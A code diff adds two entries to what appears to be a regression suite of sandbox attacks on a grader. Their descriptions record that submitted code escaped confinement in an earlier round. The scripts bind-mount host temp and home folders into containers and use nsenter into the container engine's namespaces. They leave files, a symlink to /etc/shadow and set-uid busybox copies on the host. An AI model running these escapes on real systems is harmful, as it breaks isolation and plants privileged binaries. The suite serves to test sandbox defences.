@@ -467,6 +467,47 @@ ATTACKS: tuple[Attack, ...] = (
         outside=("no leaked files",),
     ),
     Attack(
+        "container-leak",
+        "(round 2) containers bind-mounted /tmp, /var/tmp and /dev/shm and left a 3 GiB "
+        "file, a FIFO, a link and a set-uid program that the next batch's pool user owned; "
+        "here 1 MiB of each kind, and the runtime folder and home too",
+        "ran = 0\n"
+        "for host in ('/tmp', '/var/tmp', '/dev/shm', os.environ['HOME'],\n"
+        "             '/run/user/' + str(os.getuid())):\n"
+        "    r = sh(f'docker run --rm -v {host}:/h busybox sh -c \"'\n"
+        "           'head -c 1048576 /dev/zero > /h/dd-ctr-file && mkfifo /h/dd-ctr-fifo && '\n"
+        "           'ln -s /etc/shadow /h/dd-ctr-link && cp /bin/busybox /h/dd-ctr-suid && '\n"
+        "           'chmod 4755 /h/dd-ctr-suid\"')\n"
+        "    ran += r.returncode == 0\n"
+        "assert ran, 'no container ran'\n"
+        "proof()  # the harm is seen from outside: whether the files outlive the batch\n",
+        CACHE,
+        outside=("no leaked files",),
+    ),
+    Attack(
+        "nsenter",
+        "(round 2) the kernel entered its own engine's user and mount namespaces with "
+        "nsenter and wrote on the host, past its read-only confinement",
+        "def engine_pids():\n"
+        "    for pid in filter(str.isdigit, os.listdir('/proc')):\n"
+        "        try:\n"
+        "            st = os.stat(f'/proc/{pid}')\n"
+        "            comm = open(f'/proc/{pid}/comm').read().strip()\n"
+        "        except OSError:\n"
+        "            continue\n"
+        "        mine = st.st_uid == os.getuid()\n"
+        "        if mine and comm in ('dockerd', 'rootlesskit', 'containerd'):\n"
+        "            yield pid\n"
+        "write = ('for d in /tmp /var/tmp /dev/shm $HOME /etc; do echo x > $d/dd-ns-leak; '\n"
+        "         'cp /bin/busybox $d/dd-ns-suid && chmod 4755 $d/dd-ns-suid; done; true')\n"
+        "for pid in engine_pids():\n"
+        "    for flags in ('-U -m', '-U -m --preserve-credentials', '-m'):\n"
+        "        sh(f'nsenter -t {pid} {flags} sh -c \"{write}\"')\n"
+        "proof()  # the harm is seen from outside: whether the files outlive the batch\n",
+        CACHE,
+        outside=("no leaked files",),
+    ),
+    Attack(
         "fd-hog",
         "1000 idle connections took 2000 of the grader's file descriptors",
         "held = []\n"
